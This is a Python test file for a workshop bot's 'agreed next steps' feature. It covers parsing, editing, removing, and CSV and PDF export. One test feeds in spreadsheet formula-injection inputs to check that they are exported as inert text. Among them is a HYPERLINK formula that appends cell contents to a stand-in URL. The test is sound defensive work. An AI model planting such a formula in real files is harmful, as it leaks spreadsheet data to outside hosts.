"""Agreed next steps: the workshop ends with what it undertakes to do, who, and by when."""

from __future__ import annotations

import csv
import io

import pytest

from bot.domain.next_steps import AgreedStep, free_position, parse_step
from tests.conftest import BotHarness
from tests.stories import pdf_pages, release, reopen_menu, set_up, take_part

BOT_SETTINGS = {"min_group": 3}  # told with the smallest group size the setting allows


@pytest.mark.parametrize(("text", "expected"), [
    ("Infoblätter übersetzen\nJugendamt\nbis Juni 2027",
     AgreedStep("Infoblätter übersetzen", "Jugendamt", "bis Juni 2027")),
    ("  Infoblätter   übersetzen ;  Jugendamt ; Juni 2027 ",
     AgreedStep("Infoblätter übersetzen", "Jugendamt", "Juni 2027")),
    ("\nInfoblätter übersetzen\n\nJugendamt\nJuni\n", AgreedStep("Infoblätter übersetzen",
                                                              "Jugendamt", "Juni")),
    ("Nur eine Zeile", None),
    ("Was\nWer", None),                       # two lines
    ("a\nb\nc\nd", None),                     # four
    ("/weiter\nJugendamt\nJuni", None),       # a command, not a step
    ("Ok\nJugendamt\nJuni", None),            # "what" too short
    ("Infoblätter\nJugendamt\n" + "x" * 41, None),
    (None, None),
])
def test_a_step_is_three_lines_what_who_and_by_when(text: str | None,
                                                     expected: AgreedStep | None) -> None:
    assert parse_step(text) == expected


def test_a_new_step_takes_the_first_free_place_of_five() -> None:
    assert free_position(set()) == 1
    assert free_position({1, 2, 4}) == 3
    assert free_position({1, 2, 3, 4, 5}) is None


async def test_coordinators_record_steps_that_reach_pdf_csv_and_the_next_workshop(
        bot: BotHarness) -> None:
    chris = bot.person(1, "Chris")
    payload = await set_up(chris)
    for i in range(3):
        await take_part(bot.person(10 + i, f"P{i}"), payload, "Politik", "AAAAAAA")
    await release(chris)
    await chris.tap("🤝 Vereinbarte Schritte")
    assert "Noch ist kein Schritt eingetragen" in chris.last.text
    await chris.tap("➕ Schritt eintragen")
    assert "Schritt 1 für den Workshop „Musterstadt“" in chris.last.text
    await chris.send("Nur eine Zeile")
    assert "Das lässt sich nicht als Schritt eintragen" in chris.last.text
    await chris.send("Infoblätter für Kitas übersetzen\nJugendamt\nbis Juni 2027")
    assert "1. Infoblätter für Kitas übersetzen\n   Wer: Jugendamt · Bis: bis Juni 2027" in (
        chris.last.text)
    await chris.tap("➕ Schritt eintragen")
    await chris.send("Integrationsbeirat einbeziehen; Bürgermeisterin; nächste Ratssitzung")
    await chris.tap("✍️ 1 ändern")  # editable later
    await chris.send("Infoblätter in fünf Sprachen\nJugendamt\nbis Mai 2027")
    view = chris.last.text
    assert "1. Infoblätter in fünf Sprachen" in view and "2. Integrationsbeirat" in view
    await chris.send("Ein Gruß an alle")  # nothing awaited any more: no step
    assert "Infoblätter in fünf Sprachen" in view and "3." not in chris.last.text

    await reopen_menu(chris)
    await chris.tap("🗂 CSV-Export")
    lines = chris.last.file.decode("utf-8-sig").splitlines()
    assert lines[-3:] == ["Vereinbarte Schritte;Nr.;Was;Wer;Bis wann",
                          "Schritt;1;Infoblätter in fünf Sprachen;Jugendamt;bis Mai 2027",
                          "Schritt;2;Integrationsbeirat einbeziehen;Bürgermeisterin;"
                          "nächste Ratssitzung"]
    await chris.tap("📄 Bericht als PDF", chris.chat[-2])
    last = pdf_pages(chris.last)[-1]
    assert last.startswith("Vereinbarte nächste Schritte")  # a page of its own
    assert "Infoblätter in fünf Sprachen Jugendamt bis Mai 2027" in last

    await set_up(chris, "musterstadt")  # the next workshop of the same municipality
    await chris.tap("🤝 Vereinbarte Schritte")
    assert "Vereinbart im Workshop vom" in chris.last.text
    assert "• Infoblätter in fünf Sprachen – Jugendamt, bis bis Mai 2027" in chris.last.text
    stranger = bot.person(99, "Sam")  # somebody else's workshop for the same place
    await set_up(stranger, "Musterstadt")
    await stranger.tap("🤝 Vereinbarte Schritte")
    assert "Vereinbart im Workshop" not in stranger.last.text


async def test_at_most_five_steps_and_a_step_can_be_removed(bot: BotHarness) -> None:
    chris = bot.person(1, "Chris")
    await set_up(chris)
    await chris.tap("🤝 Vereinbarte Schritte")
    for i in range(5):
        await chris.tap("➕ Schritt eintragen")
        await chris.send(f"Schritt Nummer {i + 1}\nVerwaltung\n2027")
    assert "➕ Schritt eintragen" not in str(chris.last.reply_markup)
    data, shown = chris.button("🗑 3 entfernen")
    await chris.tap_data(data, shown)
    assert chris.notices()[-1] == "Der Schritt ist entfernt."
    await chris.tap_data(data, shown)  # the same update again
    assert chris.notices()[-1] == "Diesen Schritt gibt es nicht mehr."
    await chris.tap("➕ Schritt eintragen")
    assert "Schritt 3 für den Workshop" in chris.last.text  # the free place


async def test_a_step_typed_as_a_formula_is_exported_as_text(bot: BotHarness) -> None:
    chris = bot.person(1, "Chris")
    payload = await set_up(chris)
    for i in range(3):
        await take_part(bot.person(10 + i, f"P{i}"), payload, "Politik", "AAAAAAA")
    await release(chris)
    await chris.tap("🤝 Vereinbarte Schritte")
    for step in ('=HYPERLINK("https://example.org/x?d="&A1;"Details")\n@SUM(A1:A9)\n+1',
                 "-1+1 Sitzungen\n=1+1\n-1"):
        await chris.tap("➕ Schritt eintragen")
        await chris.send(step)
    await reopen_menu(chris)
    await chris.tap("🗂 CSV-Export")
    rows = list(csv.reader(io.StringIO(chris.last.file.decode("utf-8-sig")), delimiter=";"))
    assert rows[-2:] == [
        ["Schritt", "1", '\'=HYPERLINK("https://example.org/x?d="&A1;"Details")',
         "'@SUM(A1:A9)", "'+1"],
        ["Schritt", "2", "'-1+1 Sitzungen", "'=1+1", "'-1"]]
    numbers = [row for row in rows if row and row[0] == "Handlungsfeld"]
    assert numbers and all(cell.isdigit() for row in numbers for cell in row[4:8])
